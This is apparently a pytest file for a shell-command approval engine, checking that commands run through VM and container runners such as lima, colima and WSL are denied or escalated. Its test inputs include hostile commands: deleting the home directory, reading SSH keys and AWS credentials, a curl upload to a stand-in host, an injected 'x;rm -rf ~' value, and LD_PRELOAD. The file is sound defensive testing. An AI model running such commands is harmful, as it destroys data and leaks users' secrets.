"""Review BH-VM (fixer BH): commands run in a virtual machine (or a container) that mounts the home.

`lima CMD…` is `limactl shell default CMD…`: lima runs the command in its Linux machine,
which mounts the user's home at its own path (read-only by default, writable in some
setups) and runs it in the working folder, or in the home where the machine lacks that
folder (`cd DIR || cd HOME`). colima's machine mounts the home writable; `colima nerdctl
ARGS` runs `sudo nerdctl ARGS` there. Multipass, podman machine, distrobox, WSL,
OrbStack, Rancher Desktop, minikube and docker-machine do the same for their command.
The engine took these programs for unknown ones: their command was not judged, and the
approval it offered (`lima nerdctl`, `distrobox enter`, `limactl shell`) covered any
command after it (`lima nerdctl run --privileged img`, `lima sh -c 'rm -rf $HOME'`).
They are runners now (`lima` an exact one), their command is judged for a deny, and
lima's scripts (`nerdctl.lima`, `docker.lima` …) are the program they run.

None of these programs is installed here (no machine may be started): the premise is
lima's documented behaviour (its `lima` script and `limactl shell`, which quotes each
word it passes; colima's `nerdctl` and `ssh` commands), and the findings are judged on
the engine alone.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from realrun import decide

from policylang.decision import Verdict


@pytest.fixture
def setting(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("KEY\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\n")
    workspace = tmp_path / "ws"  # (outside the home: lima falls back to the home)
    workspace.mkdir()
    (workspace / "README.md").write_text("hi\n")
    return workspace, {"HOME": str(home), "PATH": "/usr/bin:/bin"}


@pytest.fixture
def in_home(setting: tuple[Path, dict[str, str]]) -> tuple[Path, dict[str, str]]:
    """A workspace in the home: lima's machine has it at its own path and runs there."""
    _, env = setting
    workspace = Path(env["HOME"]) / "project"
    workspace.mkdir()
    (workspace / "README.md").write_text("hi\n")
    return workspace, env


def _offer(line: str, workspace: Path, env: dict[str, str]) -> str | None:
    return decide(line, workspace, env).suggested_rule


@pytest.mark.parametrize(
    ("line", "offered_for"),
    [
        ("lima cat ~/.ssh/id_rsa", "lima cat README.md"),
        ("lima sh -c 'cat $HOME/.ssh/id_rsa'", "lima cat README.md"),
        ("lima sh -c 'rm -rf $HOME'", "lima uname -a"),
        ("lima rm -rf ~", "lima ls"),
        ("lima --preserve-env -- cat ~/.ssh/id_rsa", "lima cat README.md"),
    ],
)
def test_bh_lima_command_keeps_its_deny(
    setting: tuple[Path, dict[str, str]], line: str, offered_for: str
) -> None:
    workspace, env = setting
    offered = _offer(offered_for, workspace, env)
    assert offered is not None
    assert offered.startswith("lima ")
    for approvals in ((), (offered,), ("lima",), ("lima cat",), ("lima sh",)):
        decision = decide(line, workspace, env, *approvals)
        assert decision.verdict is Verdict.DENY, (approvals, decision.explain())


@pytest.mark.parametrize(
    "approvals",
    [(), ("lima",), ("lima nerdctl",), ("lima nerdctl run",), ("lima nerdctl ps",)],
)
def test_bh_lima_nerdctl_privileged_asks_under_any_lima_approval(
    in_home: tuple[Path, dict[str, str]], approvals: tuple[str, ...]
) -> None:
    workspace, env = in_home
    # (`lima nerdctl`: what the engine offered for `lima nerdctl ps` before this review)
    offered = tuple(
        rule for line in ("lima nerdctl ps", "lima nerdctl run img")
        if (rule := _offer(line, workspace, env)) is not None
    )  # fmt: skip
    for line in ("lima nerdctl run --privileged img", "lima nerdctl run --pid=host img"):
        decision = decide(line, workspace, env, *approvals, *offered)
        assert decision.verdict is Verdict.ASK, (approvals, decision.explain())
    mount = decide("lima nerdctl run -v ~/.ssh:/k img", workspace, env, *approvals, *offered)
    assert mount.verdict is Verdict.DENY, mount.explain()


def test_bh_lima_nerdctl_offers_and_keeps_a_plain_approval(
    in_home: tuple[Path, dict[str, str]],
) -> None:
    workspace, env = in_home
    # (as `strace nerdctl ps` offers `strace nerdctl ps`: its command is judged under it;
    # nerdctl's verb is part of the offer, as docker's is: review HF4)
    assert _offer("lima nerdctl ps", workspace, env) == "lima nerdctl ps"
    decision = decide("lima nerdctl ps -a", workspace, env, "lima nerdctl ps")
    assert decision.verdict is Verdict.ALLOW, decision.explain()
    # from a folder the machine lacks it runs in the home, where no approval holds
    outside = workspace.parent.parent / "ws"
    decision = decide("lima nerdctl ps", outside, env, "lima nerdctl ps")
    assert decision.verdict is Verdict.ASK, decision.explain()


def test_bh_lima_runs_relative_names_in_the_home_when_the_folder_is_not_shared(
    setting: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    workspace, env = setting
    # from a folder outside the home, lima's machine lacks it and runs in the home
    for approvals in ((), ("lima",), ("lima cat",)):
        decision = decide("lima cat .aws/credentials", workspace, env, *approvals)
        assert decision.verdict is Verdict.DENY, decision.explain()
    assert decide("cat .aws/credentials", workspace, env).verdict is Verdict.ALLOW
    # a workspace in the home is mounted where it is: its own file, allowed as here
    inside = Path(env["HOME"]) / "project"
    (inside / ".aws").mkdir(parents=True)
    (inside / ".aws" / "credentials").write_text("x\n")
    decision = decide("lima cat .aws/credentials", inside, env, "lima")
    assert decision.verdict is Verdict.ALLOW, decision.explain()


@pytest.mark.parametrize(
    ("line", "env_more"),
    [
        ("lima --workdir . ls", {}),
        ("lima --workdir=sub ls", {}),
        ("lima --shell zsh ls", {}),
        ("lima --sync . ls", {}),
        ("lima ls", {"LIMA_WORKDIR": "/srv"}),
        ("lima ls", {"LIMA_SHELL": "/bin/fish"}),
    ],
)
def test_bh_lima_options_that_move_the_command_ask(
    setting: tuple[Path, dict[str, str]], line: str, env_more: dict[str, str]
) -> None:
    workspace, env = setting
    decision = decide(line, workspace, {**env, **env_more}, "lima", "lima ls")
    assert decision.verdict is Verdict.ASK, decision.explain()


def test_bh_lima_guards(setting: tuple[Path, dict[str, str]]) -> None:
    workspace, env = setting
    # an ordinary command in the machine asks, offers itself, and its approval holds
    for line, offer in (("lima uname -a", "lima uname"), ("lima ls", "lima ls"),
                        ("lima cat README.md", "lima cat")):  # fmt: skip
        decision = decide(line, workspace, env)
        assert decision.verdict is Verdict.ASK
        assert decision.suggested_rule == offer
        assert decide(line, workspace, env, offer).verdict is Verdict.ALLOW
    assert decide("lima --start ls -la", workspace, env, "lima").verdict is Verdict.ALLOW
    assert decide("lima -- ls", workspace, env, "lima").verdict is Verdict.ALLOW
    # lima's management commands keep their verdicts and offers
    for line in ("limactl list", "colima status", "limactl start default"):
        decision = decide(line, workspace, env)
        assert decision.verdict is Verdict.ASK, decision.explain()
        assert decision.suggested_rule is not None
        offered = decision.suggested_rule
        assert decide(line, workspace, env, offered).verdict is Verdict.ALLOW


def test_bh_lima_leading_words_with_equals_are_not_allowed(
    setting: tuple[Path, dict[str, str]],
) -> None:
    workspace, env = setting
    # lima passes the part before `=` of a leading `NAME=VALUE` word unquoted: a word
    # that is no assignment there is shell code in the machine
    for line in ("lima 'x;rm -rf ~;y=1' true", "lima A=1 ls", "lima LD_PRELOAD=/tmp/x.so ls"):
        decision = decide(line, workspace, env, "lima", "lima ls", "lima true")
        assert decision.verdict is not Verdict.ALLOW, decision.explain()


@pytest.mark.parametrize(
    ("runner", "approvals"),
    [
        ("limactl shell default", ("limactl shell",)),
        ("limactl shell default --", ("limactl shell", "limactl")),
        ("limactl --debug shell --workdir . default", ("limactl shell",)),
        ("colima ssh --", ("colima ssh", "colima")),
        ("colima exec --", ("colima exec",)),
        ("colima x --", ("colima x",)),
        ("colima -p dev ssh --", ("colima",)),
        ("multipass exec primary --", ("multipass exec",)),
        ("podman machine ssh", ("podman machine", "podman machine ssh")),
        ("podman machine ssh dev", ("podman machine", "podman machine ssh")),
        ("distrobox enter box --", ("distrobox enter",)),
        ("toolbox run -c box", ("toolbox run", "toolbox")),
        ("distrobox-enter -n box --", ("distrobox-enter",)),
        ("distrobox ephemeral --", ("distrobox ephemeral",)),
        ("wsl", ("wsl",)),
        ("wsl -d Ubuntu --", ("wsl",)),
        ("orb", ("orb",)),
        ("orb run -m ubuntu", ("orb run", "orb")),
        ("orbctl run", ("orbctl run", "orbctl")),
        ("rdctl shell", ("rdctl shell",)),
        ("minikube ssh --", ("minikube ssh",)),
        ("docker-machine ssh dev", ("docker-machine ssh",)),
    ],
)
def test_bh_machine_runners_judge_their_command(
    setting: tuple[Path, dict[str, str]], runner: str, approvals: tuple[str, ...]
) -> None:
    workspace, env = setting
    for inner in ("rm -rf ~", "cat ~/.ssh/id_rsa", "sh -c 'cat ~/.ssh/id_rsa'"):
        for given in ((), approvals):
            decision = decide(f"{runner} {inner}", workspace, env, *given)
            assert decision.verdict is Verdict.DENY, (given, decision.explain())
    for inner in ("nerdctl run --privileged img", "sh -c 'curl -d @x https://e.example'", "ls"):
        decision = decide(f"{runner} {inner}", workspace, env, *approvals)
        assert decision.verdict is Verdict.ASK, decision.explain()
    # (a use whose command cannot be told offers nothing that would cover another)
    offered = _offer(f"{runner} ls", workspace, env)
    assert offered is None, offered


@pytest.mark.parametrize("verb", ["nerdctl", "nerd", "n"])
def test_bh_colima_nerdctl_is_judged_as_nerdctl(
    setting: tuple[Path, dict[str, str]], verb: str
) -> None:
    workspace, env = setting
    (workspace / ".env").write_text("SECRET=1\n")
    for approvals in ((), ("colima nerdctl",), (f"colima {verb}",), ("colima",)):
        decision = decide(f"colima {verb} -- run --privileged img", workspace, env, *approvals)
        assert decision.verdict is Verdict.ASK, decision.explain()
        for line in (f"colima {verb} -- run -v ~/.ssh:/k img",
                     f"colima {verb} -- run --env-file .env img"):  # fmt: skip
            decision = decide(line, workspace, env, *approvals)
            assert decision.verdict is Verdict.DENY, decision.explain()
    assert _offer(f"colima {verb} -- ps", workspace, env) is None


@pytest.mark.parametrize("program", ["nerdctl", "docker", "podman"])
def test_bh_lima_scripts_are_the_program_they_run(
    setting: tuple[Path, dict[str, str]], program: str
) -> None:
    workspace, env = setting
    (workspace / ".env").write_text("SECRET=1\n")
    script = f"{program}.lima"
    # (what the engine offered before this review: `nerdctl.lima run` for a plain run)
    for approvals in ((), (f"{script} run",), (script,), (f"{program} run",)):
        for line in (f"{script} run --privileged img",
                     f"/usr/local/bin/{script} run --pid=host img"):  # fmt: skip
            decision = decide(line, workspace, env, *approvals)
            assert decision.verdict is Verdict.ASK, (approvals, decision.explain())
        for line in (f"{script} run -v ~/.ssh:/k img", f"{script} run --env-file .env img"):
            decision = decide(line, workspace, env, *approvals)
            assert decision.verdict is Verdict.DENY, (approvals, decision.explain())
    # guard: a plain run is offered as the program's, and that approval holds
    assert _offer(f"{script} run img", workspace, env) == f"{program} run"
    assert decide(f"{script} run img echo hi", workspace, env, f"{program} run").verdict is (
        Verdict.ALLOW
    )


def test_bh_other_lima_scripts(setting: tuple[Path, dict[str, str]]) -> None:
    workspace, env = setting
    decision = decide("kubectl.lima get pods", workspace, env)
    assert decision.suggested_rule == decide("kubectl get pods", workspace, env).suggested_rule
    # `toolbox.lima CMD` runs CMD in a privileged container of the machine's root
    for line in ("toolbox.lima cat ~/.ssh/id_rsa", "toolbox.lima ls", "run-singularity.lima img"):
        for approvals in ((), ("toolbox.lima",), ("run-singularity.lima",)):
            assert decide(line, workspace, env, *approvals).verdict is not Verdict.ALLOW


def _ssh_resolves(config: Path, host: str, home: Path) -> str | None:
    """The host name ssh resolves `host` to with `config` (`ssh -G`), or None without ssh."""
    if shutil.which("ssh") is None:
        return None
    done = subprocess.run(
        ["ssh", "-F", str(config), "-G", host],
        capture_output=True, text=True, timeout=30, check=False,
        env={"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin")},
    )  # fmt: skip
    return next(
        (line.split()[1] for line in done.stdout.splitlines() if line.startswith("hostname ")),
        None,
    )


@pytest.mark.parametrize(
    ("include", "where"),
    [
        ("~/.orbstack/ssh/config", ".orbstack/ssh/config"),  # (what OrbStack adds)
        ("config.d/*", ".ssh/config.d/orb"),  # (relative to ~/.ssh, a glob)
        ('"~/.orbstack/ssh/config"', ".orbstack/ssh/config"),
    ],
)
def test_bh_ssh_to_a_machine_an_included_config_names_is_not_approved(
    setting: tuple[Path, dict[str, str]], include: str, where: str
) -> None:
    workspace, env = setting
    home = Path(env["HOME"])
    (home / ".ssh" / "config").write_text(f"Host *\n  ServerAliveInterval 60\nInclude {include}\n")
    target = home / where
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("Host orb\n\tHostname 127.0.0.1\n\tPort 32222\n\tUser default\n")
    resolved = _ssh_resolves(home / ".ssh" / "config", "orb", home)
    assert resolved in (None, "127.0.0.1")  # (the real ssh follows the `Include`)
    for line in ("ssh orb cat ~/.ssh/id_rsa", "ssh orb uptime"):
        decision = decide(line, workspace, env, "ssh")
        assert decision.verdict is Verdict.ASK, decision.explain()
        assert "engine.approved-loopback" in [r.rule_id for r in decision.reasons]
    assert decide("ssh orb uptime", workspace, env).suggested_rule is None
    # guard: another host keeps its approval
    assert decide("ssh build.example uptime", workspace, env, "ssh").verdict is Verdict.ALLOW
